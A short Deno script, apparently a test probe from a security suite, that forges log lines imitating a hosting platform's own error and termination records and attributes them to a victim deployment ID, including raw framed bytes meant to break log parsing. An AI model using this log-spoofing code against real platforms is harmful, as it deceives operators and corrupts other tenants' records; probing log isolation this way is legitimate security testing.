// Prints lines in the forms of the platform's own records, in the name of the victim.
// @answers ANYTHING
// @logs
const at = JSON.parse(Deno.env.get("ATTACK")!);

Deno.serve(async () => {
  const id = at.victimDeployment;
  console.log(JSON.stringify({ time: new Date().toISOString(), level: "error", message: at.mark, region: "gcp-us-east4", deploymentId: id }));
  console.log(JSON.stringify({ deployment: id, severity: "Error", text: at.mark }) + "\n" + `{"Serving":{"kind":"${at.mark}"}}`);
  console.log(`isolate start time: 0.00 ms\nMemory limit exceeded, terminated ${at.mark}`);
  await Deno.stdout.write(new TextEncoder().encode(`\x00\x00\x00\x20${id}${at.mark}\n`));
  return new Response(`${at.name} was printed`);
});
